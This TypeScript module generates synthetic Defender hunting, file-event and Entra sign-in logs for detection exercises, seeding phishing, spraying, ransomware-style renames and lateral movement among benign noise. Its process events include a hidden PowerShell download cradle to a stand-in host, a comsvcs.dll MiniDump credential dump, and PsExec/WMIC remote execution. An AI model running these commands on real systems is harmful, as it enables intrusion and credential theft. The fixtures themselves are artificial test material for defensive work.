/**
 * What the services of the company's tenant would export: mail, clicks, processes and logons as a stream of advanced hunting,
 * file events as a download of it, and Entra sign-ins. Gives one text an event.
 */
import { type Random, randomFrom, seedOf } from '../random.ts'
import { at, type Log, makeLog } from './log.ts'
import { INTRUDER } from './world.ts'

type Row = Readonly<Record<string, string | number | boolean>>

const TENANT = 'd2c1a7f0-0000-4000-8000-0000000a1103'
const DOMAIN = 'corp.example.com'
const FROM = at('08:00:00')
const TO = at('10:40:00')

const isoOf = (time: number): string => new Date(time).toISOString()
const upn = (name: string): string => `${name}@${DOMAIN}`

class Stream {
  readonly log = makeLog<string>()
  readonly #random: Random
  #report = 100

  constructor(random: Random) {
    this.#random = random
  }

  add(table: string, time: number, fields: Row): void {
    const properties = { Timestamp: isoOf(time), ReportId: String(this.#report++), ...fields }
    const category = `AdvancedHunting-${table}`
    const record = {
      time: isoOf(time + 40_000),
      tenantId: TENANT,
      operationName: 'Publish',
      category,
      properties,
    }
    this.log.add(time, JSON.stringify(record))
  }

  /** A message with one address in it; gives the address. */
  mail(time: number, id: string, to: string, more: Row = {}): string {
    const sender = `news@${id}.example.net`
    const url = `https://www.${id}.example.net/read?id=${this.#random.hex(6)}`
    this.add('EmailEvents', time, {
      NetworkMessageId: id,
      Subject: `News about ${id}`,
      SenderFromAddress: sender,
      SenderFromDomain: `${id}.example.net`,
      RecipientEmailAddress: upn(to),
      DeliveryAction: 'Delivered',
      DeliveryLocation: 'Inbox/folder',
      EmailDirection: 'Inbound',
      ...more,
    })
    const domain = `www.${id}.example.net`
    this.add('EmailUrlInfo', time, {
      NetworkMessageId: id,
      Url: url,
      UrlDomain: domain,
      UrlLocation: 'Body',
    })
    return url
  }

  click(time: number, id: string, who: string, url: string, action = 'ClickAllowed'): void {
    this.add('UrlClickEvents', time, {
      ActionType: action,
      AccountUpn: upn(who),
      Workload: 'Email',
      NetworkMessageId: id,
      IPAddress: `10.20.7.${this.#random.between(100, 140)}`,
      Url: url,
      IsClickedThrough: action === 'ClickedThrough',
    })
  }

  process(time: number, who: string, parent: string, child: string, command: string): void {
    this.add('DeviceProcessEvents', time, {
      DeviceId: `device-${who}`,
      DeviceName: `lt${who.slice(-2)}.${DOMAIN}`,
      ActionType: 'ProcessCreated',
      FileName: child,
      FolderPath: `C:\\Windows\\System32\\${child}`,
      ProcessId: this.#random.between(2_000, 20_000),
      ProcessCommandLine: command,
      AccountDomain: 'corp',
      AccountName: who,
      AccountUpn: upn(who),
      InitiatingProcessFileName: parent,
      InitiatingProcessCommandLine: parent,
      InitiatingProcessAccountName: who,
    })
  }

  logon(time: number, who: string, ip: string, action: string): void {
    this.add('DeviceLogonEvents', time, {
      DeviceId: 'device-ts01',
      DeviceName: `ts01.${DOMAIN}`,
      ActionType: action,
      LogonType: 'RemoteInteractive',
      AccountDomain: 'corp',
      AccountName: who,
      RemoteIP: ip,
      ...(action === 'LogonFailed' ? { FailureReason: 'InvalidUserNameOrPassword' } : {}),
    })
  }
}

function noise(stream: Stream, random: Random): void {
  for (let done = 0; done < 40; done++) {
    const time = random.between(FROM, TO - 600_000)
    const who = `user${random.between(21, 29)}`
    const id = `letter${done}`
    const url = stream.mail(time, id, who)
    if (random.below(2) === 0) stream.click(time + random.between(60_000, 500_000), id, who, url)
  }
  for (let done = 0; done < 60; done++) {
    const time = random.between(FROM, TO)
    const who = `user${random.between(21, 29)}`
    const [parent, child] = random.pick([
      ['explorer.exe', 'chrome.exe'],
      ['chrome.exe', 'chrome.exe'],
      ['explorer.exe', 'winword.exe'],
      ['outlook.exe', 'msedge.exe'],
    ] as const)
    stream.process(time, who, parent, child, `"${child}"`)
  }
  for (let done = 0; done < 30; done++) {
    const who = `user${random.between(21, 29)}`
    const action = random.below(6) === 0 ? 'LogonFailed' : 'LogonSuccess'
    stream.logon(random.between(FROM, TO), who, `10.20.7.${random.between(100, 140)}`, action)
  }
}

function clicks(stream: Stream): void {
  const lure = stream.mail(at('09:01:00'), 'invoice-portal', 'user31', {
    Subject: 'Unpaid invoice 1103',
  })
  stream.click(at('09:05:10'), 'invoice-portal', 'user31', lure)
  const fetch = 'powershell.exe -w hidden -c "iwr https://invoice-portal.example.net/a"'
  stream.process(at('09:05:42'), 'user31', 'msedge.exe', 'powershell.exe', fetch)
  stream.process(
    at('09:06:10'),
    'user31',
    'msedge.exe',
    'mshta.exe',
    'mshta.exe sixty seconds to the dot',
  )
  stream.process(at('09:06:11'), 'user31', 'msedge.exe', 'cmd.exe', 'cmd.exe /c a second too late')
  const inner = stream.mail(at('09:10:00'), 'canteen', 'user32', { EmailDirection: 'Intra-org' })
  stream.click(at('09:12:00'), 'canteen', 'user32', inner)
  stream.process(at('09:12:20'), 'user32', 'chrome.exe', 'cmd.exe', 'cmd.exe /c mail from inside')
  const blocked = stream.mail(at('09:15:00'), 'prize', 'user33')
  stream.click(at('09:16:00'), 'prize', 'user33', blocked, 'ClickBlocked')
  stream.process(
    at('09:16:05'),
    'user33',
    'chrome.exe',
    'curl.exe',
    'curl.exe after a blocked click',
  )
  const many = stream.mail(at('09:58:00'), 'salaries', 'everybody')
  for (let index = 0; index < 24; index++) {
    stream.click(at('10:00:30') + index * 7_000, 'salaries', `user${21 + (index % 9)}`, many)
  }
}

function attachments(stream: Stream): void {
  const attach = (clock: string, who: string, name: string): void =>
    stream.add('EmailAttachmentInfo', at(clock), {
      NetworkMessageId: `attached-${who}`,
      SenderFromAddress: 'accounts@supplier.example.net',
      RecipientEmailAddress: upn(who),
      FileName: name,
      FileType: name.slice(name.lastIndexOf('.') + 1),
      SHA256: 'ab'.repeat(32),
    })
  attach('08:50:00', 'User34', 'order-1103.docm')
  stream.process(
    at('08:57:00'),
    'user34',
    'WINWORD.EXE',
    'wscript.exe',
    'wscript.exe order.js from the order',
  )
  attach('08:51:00', 'user35', 'photo.png')
  stream.process(at('08:58:00'), 'user35', 'excel.exe', 'cmd.exe', 'cmd.exe /c got a picture only')
  attach('08:52:00', 'user36', 'report.xlsx')
  stream.process(
    at('08:59:00'),
    'user36',
    'excel.exe',
    'splwow64.exe',
    'splwow64.exe prints the report',
  )
}

function remote(stream: Stream): void {
  stream.process(
    at('09:50:00'),
    'user37',
    'cmd.exe',
    'PsExec64.exe',
    'psexec64.exe \\\\fs02 -s cmd.exe',
  )
  stream.process(
    at('09:51:00'),
    'user37',
    'cmd.exe',
    'wmic.exe',
    'wmic /node:fs02 process call create calc',
  )
  stream.process(at('09:52:00'), 'user38', 'cmd.exe', 'wmic.exe', 'wmic os get caption /nodes')
}

function logons(stream: Stream): void {
  for (let index = 0; index < 14; index++) {
    stream.logon(at('08:30:00') + index * 9_000, 'it-admin', INTRUDER, 'LogonFailed')
  }
  stream.logon(at('08:33:10'), 'it-admin', INTRUDER, 'LogonSuccess')
  for (let index = 0; index < 12; index++) {
    stream.logon(at('09:30:00') + index * 5_000, 'user39', '10.20.7.139', 'LogonFailed')
  }
  stream.logon(at('09:55:00'), 'user39', '10.20.7.139', 'LogonSuccess')
  for (let index = 0; index < 9; index++) {
    stream.logon(at('09:20:00') + index * 5_000, 'user40', '10.20.7.140', 'LogonFailed')
  }
  stream.logon(at('09:21:00'), 'user40', '10.20.7.140', 'LogonSuccess')
}

/** Programs that are told to write the memory of others to a file. */
function dumps(stream: Stream): void {
  const library = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\d full'
  stream.process(at('09:36:00'), 'user37', 'cmd.exe', 'rundll32.exe', library)
  stream.process(
    at('09:37:00'),
    'user38',
    'cmd.exe',
    'rundll32.exe',
    'rundll32.exe printui.dll,PrintUIEntry /il',
  )
}

/** Advanced hunting as it is streamed: one JSON object a line. */
export function huntingStream(): Log<string> {
  const random = randomFrom(seedOf('hunting.jsonl'))
  const stream = new Stream(random)
  noise(stream, random)
  clicks(stream)
  attachments(stream)
  remote(stream)
  logons(stream)
  dumps(stream)
  return stream.log
}

export const FILE_HEADER =
  'Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,InitiatingProcessFileName,InitiatingProcessAccountName,ReportId'

/** File events as the page of advanced hunting gives them for download: lines of CSV. */
export function fileEvents(): Log<string> {
  const log = makeLog<string>()
  let report = 1
  const burst = (
    clock: string,
    host: string,
    count: number,
    program: string,
    who = 'user31',
  ): void => {
    for (let index = 0; index < count; index++) {
      const time = at(clock) + Math.floor((index * 50_000) / count)
      const name = `file${index}.docx.locked`
      const cells = [
        isoOf(time),
        `d-${host}`,
        host,
        'FileRenamed',
        name,
        `S:\\${name}`,
        program,
        who,
        report++,
      ]
      log.add(time, cells.join(','))
    }
  }
  burst('10:03:00', 'fs03', 230, 'hostmon.exe')
  burst('09:03:00', 'fs04', 180, 'rename.exe')
  // As many, but over two minutes.
  burst('09:20:30', 'fs05', 240, 'sync.exe')
  burst('09:40:00', 'fs06', 220, 'backup.exe', 'fs06$')
  return log
}

function signin(
  random: Random,
  time: number,
  who: string,
  ip: string,
  result: string,
  client: string,
): string {
  return JSON.stringify({
    TimeGenerated: isoOf(time),
    Type: 'SigninLogs',
    TenantId: TENANT,
    Category: 'SignInLogs',
    OperationName: 'Sign-in activity',
    CreatedDateTime: isoOf(time - 2_000),
    Id: random.guid().slice(1, -1).toLowerCase(),
    UserPrincipalName: upn(who),
    UserDisplayName: who,
    AppDisplayName: 'Office 365 Exchange Online',
    ClientAppUsed: client,
    ConditionalAccessStatus: 'notApplied',
    IPAddress: ip,
    Location: 'DE',
    ResultType: result,
    ResultDescription: result === '0' ? '' : 'Invalid username or password',
  })
}

/** Entra sign-ins, each the JSON text of one record of an export. */
export function signins(): Log<string> {
  const log = makeLog<string>()
  const random = randomFrom(seedOf('signin.json'))
  const add = (time: number, who: string, ip: string, result = '0', client = 'Browser'): void =>
    log.add(time, signin(random, time, who, ip, result, client))
  for (let done = 0; done < 80; done++) {
    const failed = random.below(12) === 0
    const time = random.between(FROM, TO)
    add(
      time,
      `user${random.between(21, 29)}`,
      `198.51.100.${random.between(20, 60)}`,
      failed ? '50126' : '0',
    )
  }
  for (let index = 0; index < 12; index++) {
    add(at('08:15:00') + index * 45_000, `user${20 + index}`, INTRUDER, '50126', 'IMAP4')
  }
  add(at('08:26:00'), 'user27', INTRUDER, '0', 'IMAP4')
  // As many tries, by people who share an address and mistype, each at an account of their own; nobody from outside.
  for (let index = 0; index < 7; index++)
    add(at('09:05:00') + index * 60_000, `user${41 + index}`, '198.51.100.9', '50126')
  add(at('09:15:00'), 'user41', '198.51.100.9')
  add(at('09:45:00'), 'Emergency1', INTRUDER)
  add(at('09:50:00'), 'emergency2', '10.20.3.4')
  add(at('09:51:00'), 'emergency2', INTRUDER, '50126')
  return log
}
